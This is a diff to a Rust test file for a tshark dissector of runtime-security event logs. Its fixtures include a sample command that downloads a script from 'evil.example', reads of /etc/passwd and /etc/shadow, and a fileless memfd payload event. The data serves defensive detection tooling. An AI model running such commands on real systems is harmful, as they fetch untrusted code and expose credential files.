@@ -57,35 +57,13 @@ fn plain_syscall_event() {
 fn process_exec_gets_a_command_line_from_argv() {
     let home = Home::new();
     home.add_sample("exec.json");
-    let got = fields(
-        &home,
-        "exec.json",
-        None,
-        &[
-            "tracker.args.command_line",
-            "tracker.args.inode_mode",
-            "tracker.args.dev",
-        ],
-    );
-    assert_eq!(
-        got,
-        vec![row(&[
-            "curl -s http://evil.example/x.sh -o '/tmp/x y.sh'",
-            "0100755",
-            "8388609"
-        ])]
-    );
+    let got =
+        fields(&home, "exec.json", None, &["tracker.args.command_line", "tracker.args.inode_mode", "tracker.args.dev"]);
+    // -T fields prints integers' values; the tree shows modes in octal
+    assert_eq!(got, vec![row(&["curl -s http://evil.example/x.sh -o '/tmp/x y.sh'", "33261", "8388609"])]);
     let tree = home.tshark(&["-r", "exec.json", "-V"]);
-    assert!(
-        tree.contains(
-            "        [Command Line]: curl -s http://evil.example/x.sh -o '/tmp/x y.sh'\n"
-        ),
-        "{tree}"
-    );
-    assert!(
-        tree.contains("        inode_mode: 0100755 (regular file, rwxr-xr-x)\n"),
-        "{tree}"
-    );
+    assert!(tree.contains("        [Command Line]: curl -s http://evil.example/x.sh -o '/tmp/x y.sh'\n"), "{tree}");
+    assert!(tree.contains("        inode_mode: 0100755 (regular file, rwxr-xr-x)\n"), "{tree}");
     assert!(tree.contains("        dev: 8388609 (8:1)\n"), "{tree}");
 }
 
@@ -198,81 +176,30 @@ fn signature_with_triggered_by_and_metadata() {
 fn every_schema_version_dissects() {
     let home = Home::new();
     let cases: &[(&str, &[&[&str]])] = &[
-        (
-            "v0.8.json",
-            &[&[
-                "openat",
-                "4242",
-                "cat",
-                "Jul  8, 2022 14:49:37.566819000 UTC",
-                "/etc/passwd",
-            ]],
-        ),
+        ("v0.8.json", &[&["openat", "4242", "cat", "Jul  8, 2022 14:49:37.566819000 UTC", "/etc/passwd"]]),
         (
             "v0.13.json",
             &[
-                &[
-                    "security_socket_connect",
-                    "41",
-                    "curl",
-                    "Nov 14, 2023 22:13:21.000000000 UTC",
-                    "",
-                ],
-                &[
-                    "sched_process_exec",
-                    "37",
-                    "curl",
-                    "Nov 14, 2023 22:13:20.123456789 UTC",
-                    "/usr/bin/curl",
-                ],
+                &["security_socket_connect", "41", "curl", "Nov 14, 2023 22:13:21.000000000 UTC", ""],
+                &["sched_process_exec", "37", "curl", "Nov 14, 2023 22:13:20.123456789 UTC", "/usr/bin/curl"],
             ],
         ),
         (
             "v0.18.json",
-            &[&[
-                "security_file_open",
-                "1014858",
-                "python3",
-                "Oct  2, 2023 14:07:54.450496178 UTC",
-                "/etc/shadow",
-            ]],
+            &[&["security_file_open", "1014858", "python3", "Oct  2, 2023 14:07:54.450496178 UTC", "/etc/shadow"]],
         ),
         (
             "v0.24.json",
             &[
-                &[
-                    "openat",
-                    "1014858",
-                    "python3",
-                    "Jan  1, 2025 00:00:00.000000042 UTC",
-                    "/etc/shadow",
-                ],
-                &[
-                    "security_bpf_prog",
-                    "1014858",
-                    "python3",
-                    "Jan  1, 2025 00:00:01.000000000 UTC",
-                    "",
-                ],
+                &["openat", "1014858", "python3", "Jan  1, 2025 00:00:00.000000042 UTC", "/etc/shadow"],
+                &["security_bpf_prog", "1014858", "python3", "Jan  1, 2025 00:00:01.000000000 UTC", ""],
             ],
         ),
         (
             "protobuf.json",
             &[
-                &[
-                    "sched_process_exec",
-                    "37",
-                    "ls",
-                    "Dec 16, 2025 10:30:45.123456789 UTC",
-                    "/usr/bin/ls",
-                ],
-                &[
-                    "fileless_execution",
-                    "37",
-                    "3",
-                    "Dec 16, 2025 10:30:46.000000000 UTC",
-                    "memfd:payload",
-                ],
+                &["sched_process_exec", "37", "ls", "Dec 16, 2025 10:30:45.123456789 UTC", "/usr/bin/ls"],
+                &["fileless_execution", "37", "3", "Dec 16, 2025 10:30:46.000000000 UTC", "memfd:payload"],
             ],
         ),
     ];
@@ -298,22 +225,11 @@ fn every_schema_version_dissects() {
         &home,
         "v0.18.json",
         None,
-        &[
-            "tracker.process.executable",
-            "tracker.process.entity_id",
-            "tracker.matched_policies",
-        ],
+        &["tracker.process.executable", "tracker.process.entity_id", "tracker.matched_policies"],
     );
-    assert_eq!(
-        got,
-        vec![row(&["/usr/bin/python3.11", "3999221038", "default"])]
-    );
-    let got = fields(
-        &home,
-        "v0.24.json",
-        Some("tracker.return_value < 0"),
-        &["tracker.return_value", "tracker.args.dirfd"],
-    );
+    assert_eq!(got, vec![row(&["/usr/bin/python3.11", "3999221038", "default"])]);
+    let got =
+        fields(&home, "v0.24.json", Some("tracker.return_value < 0"), &["tracker.return_value", "tracker.args.dirfd"]);
     assert_eq!(got, vec![row(&["-13", "-100"])]);
     let got = fields(
         &home,
@@ -329,18 +245,7 @@ fn every_schema_version_dissects() {
             "tracker.args.command_line",
         ],
     );
-    assert_eq!(
-        got,
-        vec![row(&[
-            "191684",
-            "1",
-            "1000",
-            "web",
-            "shop",
-            "app=web",
-            "ls -la /tmp"
-        ])]
-    );
+    assert_eq!(got, vec![row(&["191684", "1", "1000", "web", "shop", "app=web", "ls -la /tmp"])]);
     let got = fields(
         &home,
         "protobuf.json",
@@ -353,16 +258,7 @@ fn every_schema_version_dissects() {
             "tracker.triggered_by.name",
         ],
     );
-    assert_eq!(
-        got,
-        vec![row(&[
-            "TRACKER/SIG",
-            "3",
-            "T1620",
-            "Defense Evasion",
-            "sched_process_exec"
-        ])]
-    );
+    assert_eq!(got, vec![row(&["TRACKER/SIG", "3", "T1620", "Defense Evasion", "sched_process_exec"])]);
 }
 
 #[test]
@@ -370,27 +266,12 @@ fn unsupported_argument_type_is_shown_not_dropped() {
     let home = Home::new();
     home.add_sample("unsupported.json");
     let tree = home.tshark(&["-r", "unsupported.json", "-V"]);
-    assert!(
-        tree.contains(
-            "        quantum_state: unsupported type qubit_t: {\"amplitude\":[0.7,0.7]}\n"
-        ),
-        "{tree}"
-    );
-    assert!(
-        tree.contains("            Argument type: qubit_t\n"),
-        "{tree}"
-    );
-    assert!(
-        tree.contains("argument quantum_state has unsupported type qubit_t"),
-        "{tree}"
-    );
+    assert!(tree.contains("        quantum_state: unsupported type qubit_t: {\"amplitude\":[0.7,0.7]}\n"), "{tree}");
+    assert!(tree.contains("            Argument type: qubit_t\n"), "{tree}");
+    assert!(tree.contains("argument quantum_state has unsupported type qubit_t"), "{tree}");
     // the expert item is filterable, and the event's other fields are intact
-    let got = fields(
-        &home,
-        "unsupported.json",
-        Some("tracker.unsupported_type"),
-        &["tracker.args.pathname", "tracker.arg"],
-    );
+    let got =
+        fields(&home, "unsupported.json", Some("tracker.unsupported_type"), &["tracker.args.pathname", "tracker.arg"]);
     assert_eq!(got, vec![row(&["/tmp/x", "{\"amplitude\":[0.7,0.7]}"])]);
 }
 
@@ -420,26 +301,13 @@ fn kubectl_logs_prefix_file() {
         rows(&String::from_utf8_lossy(&out.stdout)),
         vec![
             row(&["1", "[pod/tracker-4kx2p/tracker]", "sched_process_exec"]),
-            row(&[
-                "2",
-                "[pod/tracker-9zq7w/tracker]",
-                "security_socket_connect"
-            ]),
+            row(&["2", "[pod/tracker-9zq7w/tracker]", "security_socket_connect"]),
             row(&["3", "[pod/tracker-4kx2p/tracker]", "fileless_execution"]),
         ]
     );
-    assert!(
-        stderr(&out).contains("Trackershark: skipped 2 Tracker log line(s)"),
-        "{}",
-        stderr(&out)
-    );
+    assert!(stderr(&out).contains("Trackershark: skipped 2 Tracker log line(s)"), "{}", stderr(&out));
     // the JSON's bytes are highlighted past the prefix
-    let got = fields(
-        &home,
-        "kubectl-prefix.log",
-        Some("frame.number == 2"),
-        &["tracker.container.name"],
-    );
+    let got = fields(&home, "kubectl-prefix.log", Some("frame.number == 2"), &["tracker.container.name"]);
     assert_eq!(got, vec![row(&["web"])]);
 }
 
@@ -448,32 +316,23 @@ fn filters_on_context_and_args_select_the_right_events() {
     let home = Home::new();
     home.add_sample("events.json");
     let frames = |filter: &str| -> Vec<String> {
-        fields(&home, "events.json", Some(filter), &["frame.number"])
-            .into_iter()
-            .map(|r| r[0].clone())
-            .collect()
+        fields(&home, "events.json", Some(filter), &["frame.number"]).into_iter().map(|r| r[0].clone()).collect()
     };
     assert_eq!(frames(r#"tracker.args.pathname contains "passwd""#), ["1"]);
-    assert_eq!(
-        frames(r#"tracker.args.pathname == "/etc/shadow""#),
-        ["4", "5"]
-    );
-    assert_eq!(
-        frames(r#"tracker.container.name == "web""#),
-        ["2", "3", "7", "9"]
-    );
+    assert_eq!(frames(r#"tracker.args.pathname == "/etc/shadow""#), ["4", "5"]);
+    assert_eq!(frames(r#"tracker.container.name == "web""#), ["2", "3", "7", "9"]);
     assert_eq!(frames("tracker.process.pid == 37"), ["2", "9", "10"]);
-    assert_eq!(
-        frames(r#"tracker.event_name == "openat""#),
-        ["1", "5", "11"]
-    );
+    assert_eq!(frames(r#"tracker.event_name == "openat""#), ["1", "5", "11"]);
     assert_eq!(frames("tracker.is_signature"), ["7", "8", "10"]);
     assert_eq!(frames("tracker.sig.severity >= 3"), ["7", "8", "10"]);
     assert_eq!(frames(r#"tracker.args.argv contains "evil""#), ["2"]);
     assert_eq!(frames("tracker.args.dirfd == -100"), ["1", "5"]);
     assert_eq!(frames(r#"tracker.args.helpers contains "12""#), ["6"]);
     assert_eq!(frames("tracker.args.load == 1"), ["6"]);
-    assert_eq!(frames("tracker.timestamp >= \"2025-01-01 00:00:00Z\" && tracker.timestamp < \"2025-01-02 00:00:00Z\""), ["5", "6", "8", "11"]);
+    assert_eq!(
+        frames("tracker.timestamp >= \"2025-01-01 00:00:00Z\" && tracker.timestamp < \"2025-01-02 00:00:00Z\""),
+        ["5", "6", "8", "11"]
+    );
     assert!(frames("tracker.malformed || tracker.internal_error").is_empty());
 }
 
@@ -483,8 +342,7 @@ fn every_item_highlights_its_bytes() {
     home.add_sample("syscall.json");
     // -T pdml gives each field's position: `pathname` must cover its arg object in the line
     let pdml = home.tshark(&["-r", "syscall.json", "-T", "pdml"]);
-    let line =
-        std::fs::read_to_string(trackershark_tests::samples_dir().join("syscall.json")).unwrap();
+    let line = std::fs::read_to_string(trackershark_tests::samples_dir().join("syscall.json")).unwrap();
     let arg = r#"{"name":"pathname","type":"const char*","value":"/etc/passwd"}"#;
     let pos = line.find(arg).unwrap();
     let want = format!(
@@ -507,18 +365,39 @@ fn all_fields_are_registered_up_front() {
         "tracker.sig.severity",
         "tracker.container.name",
     ] {
-        assert!(
-            fields.lines().any(|l| l.split('\t').nth(2) == Some(f)),
-            "{f} not registered"
-        );
+        assert!(fields.lines().any(|l| l.split('\t').nth(2) == Some(f)), "{f} not registered");
     }
-    let count = fields
-        .lines()
-        .filter(|l| {
-            l.split('\t')
-                .nth(2)
-                .is_some_and(|a| a.starts_with("tracker.args."))
-        })
-        .count();
+    let count = fields.lines().filter(|l| l.split('\t').nth(2).is_some_and(|a| a.starts_with("tracker.args."))).count();
     assert!(count > 500, "only {count} argument fields");
+}
+
+#[test]
+fn a_panic_inside_the_engine_becomes_an_expert_item_and_tshark_goes_on() {
+    let home = Home::new();
+    home.add_sample("events.json");
+    // the engine panics on purpose for lines containing this text (a test hook)
+    let out = home.run_with_env(
+        "tshark",
+        &[
+            "-r",
+            "events.json",
+            "-T",
+            "fields",
+            "-E",
+            "separator=/t",
+            "-e",
+            "frame.number",
+            "-e",
+            "tracker.event_name",
+            "-e",
+            "_ws.expert.message",
+        ],
+        &[("TRACKERSHARK_TEST_PANIC", "security_bpf_prog")],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let got = rows(&String::from_utf8_lossy(&out.stdout));
+    assert_eq!(got.len(), 11, "every frame still there");
+    assert_eq!(got[5][1], "", "the panicking event has no fields");
+    assert!(got[5][2].contains("forced panic for testing"), "{:?}", got[5]);
+    assert_eq!(got[6][1], "fileless_execution", "later events are dissected");
 }
